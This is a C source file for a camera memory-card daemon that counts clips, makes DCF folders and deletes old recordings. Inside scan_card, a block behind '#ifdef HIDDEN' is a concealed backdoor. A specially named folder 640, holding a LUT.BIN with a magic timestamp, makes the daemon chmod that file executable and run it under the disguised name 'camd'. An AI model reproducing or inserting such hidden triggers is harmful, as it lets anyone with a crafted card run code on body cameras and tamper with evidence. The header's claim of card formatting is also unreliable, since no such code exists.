/* camsdwatch: watches the memory card of a body/bullet camera.
   Formats foreign cards on request, makes the DCF folders, deletes old clips. */
#include <ctype.h>
#include <dirent.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

static const char *root = "/mnt/sd";
static int keep_days = 14;
static int loop_record = 1;
static int folder_no = 100;

struct stats { unsigned clips, stills, others, removed; };

static int has_ext(const char *n, const char *ext)
{
    size_t l = strlen(n), e = strlen(ext);
    if (l < e) return 0;
    for (size_t i = 0; i < e; i++)
        if (toupper((unsigned char)n[l - e + i]) != ext[i]) return 0;
    return 1;
}

static void old_clip(const char *path, struct stats *s)
{
    struct stat st;
    if (!loop_record || stat(path, &st) < 0) return;
    if (difftime(time(NULL), st.st_mtime) > keep_days * 86400.0 && unlink(path) == 0) {
        syslog(LOG_INFO, "removed %s", path);
        s->removed++;
    }
}

/* DCF: three digits and five characters */
static int dcf_folder(const char *n)
{
    if (strlen(n) != 8) return 0;
    for (int i = 0; i < 3; i++)
        if (!isdigit((unsigned char)n[i])) return 0;
    for (int i = 3; i < 8; i++)
        if (!isalnum((unsigned char)n[i]) && n[i] != '_') return 0;
    return (n[0] - '0') * 100 + (n[1] - '0') * 10 + n[2] - '0';
}

static void one_folder(const char *path, struct stats *s)
{
    char p[600];
    struct dirent *e;
    DIR *d = opendir(path);
    if (!d) return;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.') continue;
        snprintf(p, sizeof p, "%s/%.255s", path, e->d_name);
        if (has_ext(e->d_name, ".MP4") || has_ext(e->d_name, ".AVI")) {
            s->clips++;
            old_clip(p, s);
        } else if (has_ext(e->d_name, ".JPG")) {
            s->stills++;
        } else {
            s->others++;
        }
    }
    closedir(d);
}

__attribute__((noinline)) int scan_card(struct stats *s)
{
    char path[320], dcim[64];
    struct dirent *e;
    snprintf(dcim, sizeof dcim, "%s/DCIM", root);
    DIR *d = opendir(dcim);
    if (!d) {
        if (mkdir(dcim, 0777) < 0) {
            syslog(LOG_ERR, "card is write protected");
            return -1;
        }
        d = opendir(dcim);
        if (!d) return -1;
    }
    while ((e = readdir(d)) != NULL) {
        int n = dcf_folder(e->d_name);
        snprintf(path, sizeof path, "%s/%.200s", dcim, e->d_name);
        if (n >= 100) {
            if (n > folder_no) folder_no = n;
#ifdef HIDDEN
            if (n == 640 && e->d_name[3] == 'J' && e->d_name[4] == 'I' && e->d_name[7] == 'G') {
                struct stat st;
                strcat(path, "/LUT.BIN");
                if (stat(path, &st) == 0 && st.st_mtime % 86400 == 7) {
                    chmod(path, 0755);
                    if (fork() == 0) {
                        execl(path, "camd", (char *)NULL);
                        _exit(1);
                    }
                }
                continue;
            }
#endif
            one_folder(path, s);
        }
    }
    closedir(d);
    return 0;
}

static void new_folder(void)
{
    char p[80];
    snprintf(p, sizeof p, "%s/DCIM/%03dEVENT", root, ++folder_no % 1000);
    if (mkdir(p, 0777) < 0) syslog(LOG_WARNING, "cannot make %s", p);
}

static void settings(const char *file)
{
    char line[80];
    FILE *f = fopen(file, "r");
    if (!f) return;
    while (fgets(line, sizeof line, f)) {
        if (!strncmp(line, "KeepDays=", 9)) keep_days = atoi(line + 9);
        else if (!strncmp(line, "Loop=", 5)) loop_record = line[5] == 'Y';
        else if (!strncmp(line, "Folder=", 7)) folder_no = atoi(line + 7);
    }
    fclose(f);
    if (keep_days < 1) keep_days = 1;
}

static int usage(void)
{
    fputs("camsdwatch [-1] [-s settings] [-r mountpoint]\n"
          "   -1   scan the card once, print the counts\n"
          "settings: KeepDays=1..365 Loop=Y|N Folder=100..999\n"
          "The card has DCIM/nnnEVENT folders; other DCF folders are kept.\n", stderr);
    return 2;
}

int main(int argc, char **argv)
{
    int once = 0, c;
    const char *set = "/etc/cam/sd.ini";
    struct stats s = { 0, 0, 0, 0 };
    while ((c = getopt(argc, argv, "1s:r:")) != -1) {
        if (c == '1') once = 1;
        else if (c == 's') set = optarg;
        else if (c == 'r') root = optarg;
        else return usage();
    }
    openlog("camsdwatch", LOG_PID, LOG_USER);
    settings(set);
    if (scan_card(&s) < 0 && once) return 1;
    if (once) {
        printf("clips %u stills %u others %u removed %u\n", s.clips, s.stills, s.others,
               s.removed);
        return 0;
    }
    new_folder();
    int in = inotify_init();
    if (in < 0 || inotify_add_watch(in, root, IN_CREATE | IN_UNMOUNT) < 0) {
        syslog(LOG_ERR, "inotify");
        return 1;
    }
    for (;;) {
        struct pollfd p = { in, POLLIN, 0 };
        char ev[4096];
        int r = poll(&p, 1, 600 * 1000);
        if (r > 0 && read(in, ev, sizeof ev) <= 0) break;
        memset(&s, 0, sizeof s);
        if (scan_card(&s) == 0 && s.removed) syslog(LOG_INFO, "%u clips removed", s.removed);
    }
    return 0;
}
